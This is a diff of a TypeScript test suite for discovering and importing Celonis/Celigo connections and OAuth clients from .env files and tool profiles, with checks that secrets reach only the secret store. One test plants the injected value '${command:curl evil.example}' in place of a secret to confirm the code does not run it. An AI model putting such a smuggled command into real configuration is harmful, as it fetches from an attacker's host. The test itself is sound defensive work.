@@ -1,10 +1,18 @@
 import assert from 'node:assert/strict';
 import type { BringPorts } from '../../../../src/app/bring/findSetups';
 import { dotenvPattern, findSetups, kafkaPattern } from '../../../../src/app/bring/findSetups';
+import { takeFoundClient } from '../../../../src/app/bring/foundClient';
+import type { FoundConnection } from '../../../../src/app/bring/foundConnections';
 import { toFoundConnections } from '../../../../src/app/bring/foundConnections';
 import { celigoVendor } from '../../../../src/celigo/celigoVendor';
 import { celonisVendor } from '../../../../src/celonis/celonisVendor';
 import type { Connection } from '../../../../src/connections/connectionRecord';
+import { ConnectionStore } from '../../../../src/connections/connectionStore';
+import type { OAuthClient } from '../../../../src/connections/oauthClients';
+import { OAuthClientService } from '../../../../src/connections/oauthClients';
+import { Redactor } from '../../../../src/core/redactor';
+import { SecretStore } from '../../../../src/storage/secretStore';
+import { SimulatedMachine } from '../../../support/simulatedWindows';
 
 const key = 'MGYxYzliMmUtMGQ0YS00ZjRlOmNhbmFyeS1rZXk1';
 const token = '5d1f0a9c3b7e4f2f8a6d0e1c9b8a7f6e';
@@ -45,20 +53,25 @@ async function find(
             Promise.resolve(toFiles(pattern === dotenvPattern ? dotenv : pattern === kafkaPattern ? kafka : {})),
         }),
   };
-  const found = toFoundConnections(await findSetups(ports), {
-    vendors: [celonisVendor, celigoVendor],
-    connections: () => [...connections],
-  });
-  return found.map(({ draft, foundIn, remarks, existing, missingLabels }) => ({
+  return (await findAmong(ports, connections)).map(({ draft, client, foundIn, remarks, existing, missingLabels }) => ({
     vendor: draft.vendor.id,
     ...(draft.name ? { name: draft.name } : {}),
     ...draft.values,
     ...draft.secrets,
+    ...(client ? { client } : {}),
     foundIn,
     ...(remarks.length > 0 ? { remarks: remarks.join(' ') } : {}),
     ...(existing ? { existing: existing.name } : {}),
     missing: missingLabels.join(', '),
   }));
+}
+
+async function findAmong(ports: BringPorts, connections: readonly Connection[]): Promise<FoundConnection[]> {
+  return toFoundConnections(
+    await findSetups(ports),
+    { vendors: [celonisVendor, celigoVendor], connections: () => [...connections] },
+    { list: () => [] },
+  );
 }
 
 describe('Connections of other tools', () => {
@@ -80,6 +93,14 @@ describe('Connections of other tools', () => {
           type: 'Client Credentials',
           clientId: 'c1',
           clientSecret: 'hidden-secret',
+          clientAuthenticationMethod: 'client_secret_post',
+          scopes: ['integration.data-pools', 'studio'],
+        }),
+        [`${folder}/keychain.json`]: profile({
+          name: 'keychain',
+          type: 'Client Credentials',
+          clientId: 'c2',
+          secretsStoredSecurely: true,
         }),
         [`${folder}/device.json`]: profile({ name: 'device', type: 'Device Code', apiToken: 'short-lived' }),
         [`${folder}/broken.json`]: '{"team":',
@@ -101,8 +122,20 @@ describe('Connections of other tools', () => {
       {
         ...place('client'),
         authType: 'oauth',
+        validDomains: host,
+        scopes: 'integration.data-pools studio',
+        client: { clientId: 'c1', clientSecret: 'hidden-secret', clientAuthentication: 'post' },
         remarks: 'It uses the OAuth 2.0 client with the client ID c1.',
-        missing: 'API type, OAuth 2.0 client, Valid domain names, Scopes, Pool ID',
+        missing: 'API type, Pool ID',
+      },
+      {
+        ...place('keychain'),
+        authType: 'oauth',
+        validDomains: host,
+        client: { clientId: 'c2' },
+        remarks:
+          'The secret of its client is in the keychain of the system. It uses the OAuth 2.0 client with the client ID c2.',
+        missing: 'API type, OAuth 2.0 client, Scopes, Pool ID',
       },
       {
         ...place('device'),
@@ -177,9 +210,59 @@ describe('Connections of other tools', () => {
         missing: 'API type, Auth type, Pool ID',
       },
     ]);
-    const [found] = await find({ environment: { CELONIS_URL: host, OAUTH_CLIENT_ID: 'c1', OAUTH_CLIENT_SECRET: 's' } });
-    assert.equal(found!['authType'], 'oauth');
+    const [found] = await find({
+      environment: { CELONIS_URL: host, OAUTH_CLIENT_ID: 'c1', OAUTH_CLIENT_SECRET: 's', OAUTH_SCOPES: 'studio' },
+    });
+    assert.deepEqual(
+      [found!['authType'], found!['scopes'], found!['client']],
+      ['oauth', 'studio', { clientId: 'c1', clientSecret: 's' }],
+    );
     assert.match(String(found!['remarks']), /c1/);
+  });
+
+  it('run no command that a file names in the place of a secret', async () => {
+    const command = '${command:curl evil.example}';
+    const [key1, key2] = await find({
+      dotenv: {
+        '.env': `CELONIS_URL=${host}\nCELONIS_APP_KEY="${command}"\nCELONIS_POOL_ID=${pool}`,
+        'client.env': `CELONIS_URL=${host}\nOAUTH_CLIENT_ID=c1\nOAUTH_CLIENT_SECRET="${command}"`,
+      },
+    });
+    assert.deepEqual([key1!['appKey'], key1!['missing']], [undefined, 'App key']);
+    assert.deepEqual(key2!['client'], { clientId: 'c1' });
+  });
+
+  it('bring their OAuth 2.0 client, whose secret goes nowhere but into the secret store', async () => {
+    const machine = new SimulatedMachine();
+    const window = machine.openWindow();
+    const redactor = new Redactor();
+    const secretStore = new SecretStore(window.secrets, redactor);
+    const logLines: string[] = [];
+    const write = (line: string): void => void logLines.push(line);
+    const log = { debug: write, info: write, warn: write, error: write };
+    const store = new ConnectionStore(window.state, secretStore, log);
+    const clients = new OAuthClientService({ state: window.state, secretStore, log, connections: store });
+    const environment = { CELONIS_URL: host, OAUTH_CLIENT_ID: 'c1', OAUTH_CLIENT_SECRET: 'canary-client-secret' };
+    const ports: BringPorts = {
+      environment,
+      environmentLabel: 'environment variables',
+      home: { readText: () => Promise.resolve(undefined), listFiles: () => Promise.resolve([]) },
+    };
+    const [found] = await findAmong(ports, []);
+    await takeFoundClient(found!.draft, found!.client!, clients);
+    const [{ record }] = clients.list() as [{ record: OAuthClient }];
+    assert.deepEqual([record.clientId, record.origins], ['c1', [`https://${host}`]]);
+    assert.equal(found!.draft.values['oauthClient'], record.id);
+    const placesOfSecret = [...machine.secrets].filter(([, text]) => text.includes('canary')).map(([place]) => place);
+    assert.deepEqual(placesOfSecret, [`celonisCeligo/${record.id}/${record.secrets[0]}`]);
+    assert.equal(redactor.redact('canary-client-secret').includes('canary'), false);
+    for (const written of [machine.storedState, logLines, found!.draft.toConnection('x'), found!.draft.describe()])
+      assert.doesNotMatch(JSON.stringify(written), /canary/);
+    const [again] = await findAmong(ports, []);
+    await takeFoundClient(again!.draft, again!.client!, clients);
+    assert.equal(again!.draft.values['oauthClient'], record.id);
+    assert.equal(clients.list().length, 1);
+    for (const disposable of [clients, store]) disposable.dispose();
   });
 
   it('are found in .env files and in the settings of the Kafka connector', async () => {
